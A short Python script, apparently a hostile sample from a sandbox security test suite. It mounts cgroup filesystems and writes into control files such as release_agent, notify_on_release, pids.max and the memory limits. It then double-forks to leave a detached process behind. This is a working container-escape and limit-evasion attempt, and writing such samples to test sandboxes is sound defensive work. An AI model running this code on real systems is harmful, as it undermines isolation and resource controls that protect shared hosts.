"""groups: leave or loosen the control groups, by files wherever they might be and by mounting them."""

import contextlib
import ctypes
import glob
import os

from tests.security.hostile.raw import stay

FILES = (
    "cgroup.procs",
    "tasks",
    "release_agent",
    "notify_on_release",
    "pids.max",
    "memory.limit_in_bytes",
    "memory.max",
)

if __name__ == "__main__":
    libc = ctypes.CDLL(None)
    for kind, options in (("cgroup", b"pids"), ("cgroup", b"memory"), ("cgroup2", None), ("cgroup", b"none,name=x")):
        os.makedirs("/workspace/groups", exist_ok=True)
        libc.mount(b"none", b"/workspace/groups", kind.encode(), 0, options)
    for place in ("/sys/fs/cgroup", "/workspace/groups", "/proc/self/root/sys/fs/cgroup", "/sys"):
        for name in FILES:
            for path in [f"{place}/{name}", *glob.glob(f"{place}/*/{name}")]:
                with contextlib.suppress(OSError), open(path, "w") as file:
                    file.write("1")
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            stay()
        os._exit(0)
    os.wait()
    stay()
